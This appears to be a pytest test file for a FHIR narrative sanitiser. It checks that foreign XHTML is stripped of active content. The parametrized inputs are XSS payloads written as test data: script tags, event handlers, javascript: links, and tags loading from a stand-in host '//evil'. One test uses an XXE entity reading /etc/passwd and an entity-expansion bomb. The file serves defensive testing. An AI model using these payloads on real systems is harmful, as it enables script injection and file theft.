"""Narratives: ours are plain; those of others are made so before anybody shows them."""

from __future__ import annotations

import re
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fhir.bundle import checked
from fhir.narrative import UnsafeNarrative, bullets, generated, paragraph, safe_div
from tests.fhir.r4 import r4_issues

XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>steal()</script>",
        "<SCRIPT SRC=//evil></SCRIPT>",
        "<img src=x onerror=steal()>",
        '<p onclick="steal()">hello</p>',
        '<a href="javascript:steal()">hello</a>',
        '<div style="background:url(//evil)">hello</div>',
        '<iframe src="//evil"><p>hello</p></iframe>',
        "<svg><script>steal()</script></svg>",
        "<style>@import '//evil'</style>",
        '<form action="//evil"><input name="password"></form>',
        '<object data="//evil"></object>',
        '<link rel="stylesheet" href="//evil">',
        '<meta http-equiv="refresh" content="0;url=//evil">',
        "<scr<script>ipt>steal()</scr</script>ipt>",
        '<p title="&quot; onmouseover=&quot;steal()">hello</p>',
    ],
)
def test_nothing_active_is_left_of_a_foreign_narrative(hostile: str) -> None:
    safe = safe_div(f"<div {XHTML}>{hostile}</div>")
    tree = ElementTree.fromstring(safe)
    assert not re.search(r"<(script|img|iframe|svg|style|form|input|object|link|meta)", safe, re.I)
    names = {name.lower() for element in tree.iter() for name in element.attrib}
    assert names <= {"title"}, "no handler, no style, no address"


@pytest.mark.parametrize("element", ["script", "style", "iframe", "svg", "object", "template"])
def test_what_stands_within_something_active_goes_with_it(element: str) -> None:
    safe = safe_div(f"<div><p>a</p><{element}>steal()</{element}><p>b</p></div>")
    assert safe == f"<div {XHTML}><p>a</p><p>b</p></div>"


def test_an_entity_of_a_document_type_is_text_and_fetches_nothing() -> None:
    hostile = (
        '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">'
        f'<!ENTITY file SYSTEM "file:///etc/passwd">]><div {XHTML}>&b; &file;</div>'
    )
    safe = safe_div(hostile)
    assert "root:" not in safe
    assert "aaaa" not in safe.split("div")[-2]
    ElementTree.fromstring(safe)


def test_formatting_and_text_stay() -> None:
    div = f"<div {XHTML}><h2>Plan</h2><ul><li>a &amp; b<br/>c</li></ul></div>"
    assert safe_div(div) == div


@given(st.text(max_size=300))
def test_whatever_comes_in_well_formed_xhtml_goes_out_and_stays(text: str) -> None:
    safe = safe_div(text)
    assert safe_div(safe) == safe
    if not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", safe):
        ElementTree.fromstring(safe)


def test_a_deep_narrative_is_cut_flat() -> None:
    safe = safe_div("<div>" * 100_000 + "deep" + "</div>" * 100_000)
    assert safe.count("<div") < 100
    assert "deep" in safe


@given(st.text(st.characters(exclude_categories=["Cs", "Cc"]), min_size=1))
def test_our_own_narratives_say_their_text_and_nothing_else(text: str) -> None:
    div = generated(paragraph(text), bullets([text]))["div"]
    assert [part for part in ElementTree.fromstring(div).itertext()] == [text, text]


def test_a_builder_that_forgets_to_escape_sends_nothing() -> None:
    div = f"<div {XHTML}><p>Ada <script>steal()</script></p></div>"
    goal = {
        "resourceType": "Goal",
        "lifecycleStatus": "active",
        "description": {"text": "Walk"},
        "subject": {"reference": "Patient/1"},
        "text": {"status": "generated", "div": div},
    }
    with pytest.raises(UnsafeNarrative, match="Goal"):
        checked(goal)
    with pytest.raises(UnsafeNarrative, match="Goal"):
        checked({**goal, "text": generated(paragraph("x")), "contained": [goal]})


def test_a_made_safe_narrative_is_valid_r4() -> None:
    safe = safe_div("<div><script>x</script><p>hello")
    patient = {"resourceType": "Patient", "text": {"status": "additional", "div": safe}}
    assert r4_issues([patient]) == []
